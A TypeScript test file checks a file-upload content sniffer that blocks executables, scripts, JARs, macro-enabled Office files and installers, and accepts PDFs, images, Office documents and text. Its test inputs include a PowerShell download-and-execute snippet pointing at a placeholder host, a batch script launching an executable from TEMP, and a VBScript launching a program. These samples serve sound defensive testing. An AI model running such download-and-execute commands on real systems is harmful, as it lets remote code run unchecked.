import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { sniffContent } from '../../../src/files/content-sniffing.ts';
import {
  elfExecutable,
  javaArchive,
  machOExecutable,
  officeDocument,
  portableExecutable,
  sampleCsv,
  sampleHtml,
  samplePdf,
  samplePng,
  sampleText,
  zipArchive,
} from '../../support/sample-files.ts';

const sniff = (content: Buffer | string) => sniffContent(Buffer.isBuffer(content) ? content : Buffer.from(content), true);

async function expectBlocked(content: Buffer | string, reasonPart: string | RegExp) {
  const verdict = await sniff(content);
  expect(verdict.accepted).toBe(false);
  expect(!verdict.accepted && verdict.reason).toMatch(reasonPart);
}

async function expectAccepted(content: Buffer | string, mimeType: string) {
  expect(await sniff(content)).toMatchObject({ accepted: true, mimeType });
}

describe('sniffContent: programs are refused', () => {
  it('refuses ELF, PE and Mach-O executables', async () => {
    await expectBlocked(elfExecutable(), /ELF executable/);
    await expectBlocked(portableExecutable(), /Windows \(PE\/MZ\) executable/);
    await expectBlocked(machOExecutable('thin'), /Mach-O executable/);
    await expectBlocked(machOExecutable('universal'), /Mach-O universal \(fat\) binary/);
  });

  it('tells a Java class file from a universal binary, and refuses both', async () => {
    const classFile = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x41, 0x00, 0x10]);
    await expectBlocked(classFile, /Java class file/);
  });

  it('refuses shebang scripts, with or without a byte order mark', async () => {
    await expectBlocked('#!/bin/sh\necho hi\n', /"#!" interpreter line/);
    await expectBlocked('\uFEFF#!/usr/bin/env python3\nprint(1)\n', /"#!" interpreter line/);
  });

  it('refuses Windows batch, PowerShell, VBScript and JavaScript content', async () => {
    await expectBlocked('@echo off\r\nset target=%TEMP%\\x.exe\r\nstart "" %target%\r\n', /batch script/);
    await expectBlocked('$client = New-Object System.Net.WebClient\n$data = $client.DownloadString("http://x")\nInvoke-Expression $data\n', /PowerShell/);
    await expectBlocked('Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc.exe"\n', /VBScript/);
    await expectBlocked(
      "const fs = require('fs');\nfunction main() {\n  const data = fs.readFileSync('/etc/hosts');\n  console.log(data.toString());\n}\nmain();\n",
      /JavaScript/,
    );
    await expectBlocked('<?xml version="1.0"?><job id="a"><script language="JScript">WScript.Echo(1)</script></job>', /Windows Script Host/);
  });

  it('refuses JAR packages and macro-enabled Office documents although they are ZIP files', async () => {
    await expectBlocked(javaArchive(), /Java archive/);
    const macroWorkbook = zipArchive([
      { name: '[Content_Types].xml', content: '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>' },
      { name: 'xl/workbook.xml', content: '<workbook/>' },
    ]);
    await expectBlocked(macroWorkbook, /macro-enabled Excel workbook/);
  });

  it('refuses MSI installers but not by confusing them with other compound files', async () => {
    const installer = compoundFile([0x84, 0x10, 0x0c, 0x00]);
    await expectBlocked(installer, /Windows Installer package/);
    const legacyWordDocument = compoundFile([0x06, 0x09, 0x02, 0x00]);
    await expectBlocked(legacyWordDocument, /legacy Office .* not an accepted kind/);
  });
});

describe('sniffContent: accepted kinds', () => {
  it('recognises PDF and PNG whatever the client claims', async () => {
    await expectAccepted(await samplePdf(), 'application/pdf');
    await expectAccepted(await samplePng(), 'image/png');
  });

  it('tells DOCX, XLSX, PPTX and a plain ZIP apart by their package parts', async () => {
    await expectAccepted(officeDocument('docx'), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    await expectAccepted(officeDocument('xlsx'), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    await expectAccepted(officeDocument('pptx'), 'application/vnd.openxmlformats-officedocument.presentationml.presentation');
    await expectAccepted(zipArchive([{ name: 'word-list.txt', content: 'not a document' }]), 'application/zip');
  });

  it('recognises a workbook written by exceljs', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Invoices').addRow(['INV-1', 120]);
    const written = Buffer.from(await workbook.xlsx.writeBuffer());
    await expectAccepted(written, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  });

  it('tells CSV, TSV, HTML, JSON and plain text apart', async () => {
    await expectAccepted(sampleCsv, 'text/csv');
    await expectAccepted('name;amount\r\nA;1\r\nB;2\r\n', 'text/csv');
    await expectAccepted('name\tamount\nA\t1\nB\t2\n', 'text/tab-separated-values');
    await expectAccepted(sampleHtml, 'text/html');
    await expectAccepted('{"invoice": "INV-1", "lines": [{"amount": 1}]}', 'application/json');
    await expectAccepted(sampleText, 'text/plain');
  });

  it('keeps documents that merely mention code or start like a header as text', async () => {
    await expectAccepted('Rem: see the attached statement.\nThanks!\n', 'text/plain');
    await expectAccepted('MZ Logistics GmbH\nInvoice 42\nTotal 100 EUR\n', 'text/plain');
    await expectAccepted('Release notes\nThe function parse() was renamed.\nUse console.log(value) to debug.\nNothing else changed.\nBye\n', 'text/plain');
    await expectAccepted('Hello, world.\nHow are you, friend?\n', 'text/plain');
  });

  it('reads UTF-16 and Windows-1252 text, and cut UTF-8 at the end of the head', async () => {
    await expectAccepted(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Grüße\nTschüss\n', 'utf16le')]), 'text/plain');
    await expectAccepted(Buffer.from('Caf\xe9 cr\xe8me\n', 'latin1'), 'text/plain');
    const cutInsideCharacter = Buffer.from('Straße München '.repeat(10), 'utf8').subarray(0, 100);
    expect(await sniffContent(cutInsideCharacter, false)).toMatchObject({ accepted: true, mimeType: 'text/plain' });
  });

  it('refuses unrecognised binary content and formats outside the accepted list', async () => {
    await expectBlocked(Buffer.from([0x00, 0x01, 0x02, 0x03, 0x04, 0xff, 0x00, 0x10]), /unrecognised format/);
    await expectBlocked(Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), /image\/gif content, which is not an accepted kind/);
  });
});

/** A compound file header whose root directory entry carries the given class id prefix. */
function compoundFile(classIdStart: number[]): Buffer {
  const sectorSize = 512;
  const file = Buffer.alloc(sectorSize * 3);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
  file.writeUInt16LE(0x3e, 24); // minor version
  file.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  file.writeUInt16LE(0xfffe, 28); // little-endian
  file.writeUInt16LE(9, 30); // sector shift: 2^9
  file.writeUInt32LE(0, 48); // first directory sector
  const rootEntry = sectorSize; // sector 0 starts after the header sector
  file.write('R\0o\0o\0t\0 \0E\0n\0t\0r\0y\0', rootEntry, 'latin1');
  file[rootEntry + 0x42] = 5; // root storage
  Buffer.from(classIdStart).copy(file, rootEntry + 0x50);
  return file;
}
